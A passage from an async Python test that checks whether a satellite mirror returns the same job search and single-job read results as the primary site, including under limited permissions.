            primary = await ok(site, "search_jobs", body, headers)
            status, mirror = await post(satellite, "/api/app/search_jobs/v1", body, headers)
            assert status == 200 and mirror == primary, body
            assert primary["rows"] or (body["query"] == f"event:{ea['id']}" and headers is limited), body
        # Single reads agree too.
        for job_id in (made[0], old["id"]):
            status, mirror = await post(satellite, "/api/app/get_job/v1", {"id": job_id}, admin)
            assert mirror == await ok(site, "get_job", {"id": job_id}, admin)
    finally:
        await node.stop()
        await satellite.close()
